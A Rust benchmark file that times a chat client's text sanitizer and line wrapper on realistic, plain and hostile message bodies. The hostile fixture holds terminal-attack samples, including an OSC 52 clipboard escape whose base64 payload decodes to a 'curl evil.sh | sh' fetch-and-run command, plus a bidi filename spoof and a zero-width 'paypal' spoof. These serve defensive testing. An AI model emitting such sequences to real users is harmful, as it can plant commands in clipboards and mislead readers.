//! Throughput of the text hot paths: the sanitizer over realistic and hostile message bodies, and
//! `wrap_lines` (which runs for every visible message on every frame). Run with
//! `cargo bench --bench text_sanitize`.

use std::hint::black_box;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use kring::text::sanitize::sanitize;
use kring::text::wrap::wrap_lines;

/// About 64 KiB of ordinary message text: ASCII prose, mentions, links, some accents and emoji.
fn realistic() -> String {
    let paragraph = "Hi @jane.doe, the deploy of #payments to https://ci.example.com/builds/4412 \
                     went fine. Café meeting moved to 15:00 — see the notes 👍🏽. Thanks!\n";
    paragraph.repeat(64 * 1024 / paragraph.len())
}

/// About 64 KiB of plain ASCII (the sanitizer's fast path).
fn plain_ascii() -> String {
    "The quick brown fox jumps over the lazy dog.\n".repeat(64 * 1024 / 45)
}

/// About 64 KiB of attacks: escapes of every kind, C1, bidi, invisible characters, zalgo.
fn hostile() -> String {
    let attack = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07\x1b[2J\x1b[?1049l\u{9b}31m\
                  pay\u{200b}pal user\u{202e}gnp.exe\x08\x08\rZ\u{301}\u{302}\u{303}\u{304}\
                  \u{305}\u{306}\u{307}\u{308}\u{309}\u{e0041}\u{e0042}\t\x1bP$q\x1b\\\u{feff}";
    attack.repeat(64 * 1024 / attack.len())
}

/// The longest prefix of `s` of at most `bytes` bytes that ends on a character boundary.
fn prefix(s: &str, bytes: usize) -> &str {
    let mut end = bytes.min(s.len());
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// A mix: three parts realistic text for one part attacks.
fn mixed() -> String {
    let realistic = realistic();
    let hostile = hostile();
    let mut s = String::from(prefix(&realistic, realistic.len() * 3 / 4));
    s.push_str(prefix(&hostile, hostile.len() / 4));
    s
}

fn bench_sanitize(c: &mut Criterion) {
    let mut group = c.benchmark_group("sanitize");
    for (name, input) in [
        ("plain_ascii", plain_ascii()),
        ("realistic", realistic()),
        ("hostile", hostile()),
        ("mixed", mixed()),
    ] {
        group.throughput(Throughput::Bytes(input.len() as u64));
        group.bench_function(name, |b| b.iter(|| sanitize(black_box(&input))));
    }
    group.finish();
}

fn bench_wrap(c: &mut Criterion) {
    let mut group = c.benchmark_group("wrap_lines");
    let body = sanitize(prefix(&realistic(), 2_000));
    group.throughput(Throughput::Bytes(body.len() as u64));
    for width in [40, 80, 160] {
        group.bench_function(format!("2KB_body_width_{width}"), |b| {
            b.iter(|| wrap_lines(black_box(&body), black_box(width)))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_sanitize, bench_wrap);
criterion_main!(benches);
